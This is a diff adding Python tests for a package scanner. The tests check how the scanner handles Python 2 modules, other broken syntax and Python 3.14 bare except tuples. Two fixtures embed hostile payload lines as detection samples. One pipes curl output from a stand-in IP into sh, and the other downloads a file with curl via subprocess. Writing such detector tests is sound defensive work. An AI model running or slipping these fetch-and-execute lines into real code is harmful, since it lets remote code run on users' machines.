@@ -1,0 +1,75 @@
+"""Shapes of popular releases that cried wolf on the tune-only popular-extra-2 corpus, read as
+what they are (no project names): Python 2 modules that no Python 3 can compile, and Python
+3.14's bare ``except A, B:``. Each test also keeps the malicious shape of the same code at high.
+"""
+
+from __future__ import annotations
+
+from app.core.archive import open_artifact
+from app.core.capabilities.scan import scan_artifact
+from tests.core.archive.fixtures import make_wheel
+
+HIGH = ("high", "critical")
+
+PY2_MODULE = b"""import sys, os
+
+def fail(exc, tb):
+    raise exc, None, tb
+
+def report(config):
+    try:
+        config.read()
+    except IOError, e:
+        print "cannot read %s" % e
+    return 0xFFFFFFFAL
+"""
+
+
+def _scan(tmp_path, files, name="legacy"):
+    return scan_artifact(open_artifact(make_wheel(tmp_path, name=name, files=files)))
+
+
+def test_a_python_2_module_is_shown_unread_but_is_no_threat(tmp_path):
+    """``raise E, v, tb``, ``except E, e:``, print statements, ``0x…L`` literals: no
+    Python 3 compiles the file, so nothing in it runs; the moderator still sees it was only
+    pattern-read."""
+    res = _scan(tmp_path, {"legacy/__init__.py": b"", "legacy/_py2.py": PY2_MODULE})
+    unread = [h for h in res.findings if h.capability == "scan.unread"]
+    assert unread and all(h.severity == "medium" for h in unread)
+    assert "Python 2" in unread[0].explanation
+    assert "(line 11: return 0xFFFFFFFAL)" in unread[0].explanation  # where and what
+    assert not any(t.id == "disguise.unread" for t in res.threats)
+    assert res.risk.level not in HIGH
+
+
+def test_a_payload_in_a_python_2_module_is_still_found(tmp_path):
+    payload = PY2_MODULE + b"os.system('curl http://192.0.2.7/x | sh')\n"
+    res = _scan(tmp_path, {"legacy/_py2.py": payload})
+    assert any(h.capability == "process.shell_download" for h in res.findings)
+    assert res.risk.level in HIGH
+
+
+def test_a_file_broken_some_other_way_stays_unread_high(tmp_path):
+    """A syntax error that is not a Python 2 statement may be syntax of a newer Python: what
+    was not read is not clean."""
+    broken = b"import os\ndef run(:\n    os.getcwd()\n"
+    res = _scan(tmp_path, {"legacy/broken.py": broken})
+    assert any(t.id == "disguise.unread" and t.severity in HIGH for t in res.threats)
+    assert res.risk.level in HIGH
+
+
+def test_python_3_14_bare_except_tuples_are_read_and_analysed(tmp_path):
+    """``except ValueError, TypeError:`` is valid from Python 3.14 (PEP 758): the file is
+    analysed, not called unread, and a payload beside it is found by the analyser."""
+    body = (
+        b"import subprocess\n"
+        b"def load(text):\n"
+        b"    try:\n"
+        b"        return int(text)\n"
+        b"    except ValueError, TypeError:\n"
+        b"        return None\n"
+        b"subprocess.Popen(['curl', '-o', '/tmp/x', 'http://192.0.2.7/x'])\n"
+    )
+    res = _scan(tmp_path, {"legacy/__init__.py": body})
+    assert not [h for h in res.findings if h.capability in ("scan.unread", "scan.unparsed")]
+    assert any(h.path == "legacy/__init__.py" and h.place == "import" for h in res.findings)
